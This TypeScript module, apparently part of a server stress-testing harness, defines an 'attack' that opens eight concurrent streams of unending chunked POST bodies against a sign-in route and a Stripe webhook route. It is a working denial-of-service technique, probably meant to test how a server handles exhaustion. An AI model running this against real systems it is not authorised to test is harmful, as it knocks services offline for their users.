import { request } from 'node:http';
import type { Attack } from '../attack.ts';

const PIECE = Buffer.alloc(65_536, 32);

export const attack: Attack = {
  name: 'chunked bodies without an end, 8 at once',
  run: async ({ origin }, signal) => {
    const send = (path: string): Promise<void> =>
      new Promise((resolve) => {
        const outgoing = request(`${origin}${path}`, {
          method: 'POST',
          signal,
          headers: { 'content-type': 'application/json', 'transfer-encoding': 'chunked' },
        });
        const write = (): void => {
          while (!outgoing.destroyed && outgoing.write(PIECE)) continue;
        };
        outgoing
          .on('drain', write)
          .on('error', () => undefined)
          .on('close', () => resolve())
          .on('response', (response) => response.resume());
        write();
      });
    await Promise.all(
      Array.from({ length: 8 }, async (_, index) => {
        while (!signal.aborted) await send(index % 2 === 0 ? '/api/trpc/session.signIn' : '/api/stripe/webhook');
      }),
    );
  },
};
